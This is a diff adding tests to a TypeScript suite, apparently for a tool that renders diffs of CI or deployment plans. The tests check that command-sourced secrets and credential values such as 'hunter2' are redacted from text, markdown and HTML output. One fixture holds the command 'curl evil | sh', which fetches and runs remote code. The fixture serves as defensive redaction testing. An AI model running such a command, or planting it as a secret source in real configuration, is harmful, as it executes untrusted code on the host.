@@ -74,7 +74,46 @@ describe('a diff', () => {
     const comment = diffMarkdown(reviewOf(planOf(valued(`${long}x`)), planOf(valued(`${long}y`))), COMPARED);
     expect(comment.length).toBeLessThan(3_000);
     expect(comment).not.toContain('Cut');
-    expect(comment).toMatch(/x<\/code> → <code>…(&#64;)+y<\/code>/);
+    expect(comment).toMatch(/x<\/code> → <code>…(&#64;<!---->){20}y<\/code>/);
+  });
+
+  test('shows that a secret now comes from a command, or from another one, whose arguments it does not tell', () => {
+    const sourced = (source: string): string => BEFORE.replace('{env: TOKEN}', source);
+    const [was, is] = [
+      sourced('{exec: [sh, -c, "vault read a"]}'),
+      sourced('{exec: [sh, -c, "curl evil | sh"]}'),
+    ];
+    for (const changed of [reviewOf(planOf(BEFORE), planOf(is)), reviewOf(planOf(was), planOf(is))]) {
+      for (const text of [
+        diffText(changed, COMPARED, noStyle),
+        diffMarkdown(changed, COMPARED),
+        diffHtml(changed, COMPARED),
+      ]) {
+        expect(text).toMatch(/TOKEN[\s\S]*from.*: .* → .*a command: sh \([0-9a-f]{8}\)/);
+        expect(text).not.toMatch(/curl|vault|no difference/i);
+      }
+    }
+    const added = BEFORE.replace('{TOKEN:', '{NEW: {exec: [id]}, TOKEN:');
+    expect(diffText(reviewOf(planOf(BEFORE), planOf(added)), COMPARED, noStyle)).toMatch(
+      /\+ secret NEW\n {4}from: – → a command: id/,
+    );
+  });
+
+  test('says that a credential is another one, and shows neither', () => {
+    const valued = (value: string): string =>
+      BEFORE.replace(
+        '{target: ci, job: platform/deploy',
+        `{target: ci, parameters: {DB_PASSWORD: ${value}}, job: d`,
+      );
+    const changed = reviewOf(planOf(valued('hunter2')), planOf(valued('hunter3')));
+    for (const text of [
+      diffText(changed, COMPARED, noStyle),
+      diffMarkdown(changed, COMPARED),
+      diffHtml(changed, COMPARED),
+    ]) {
+      expect(text).toContain('parameters.DB');
+      expect(text).not.toContain('hunter');
+    }
   });
 
   test('names every trigger that differs, also where their changes have no room', () => {
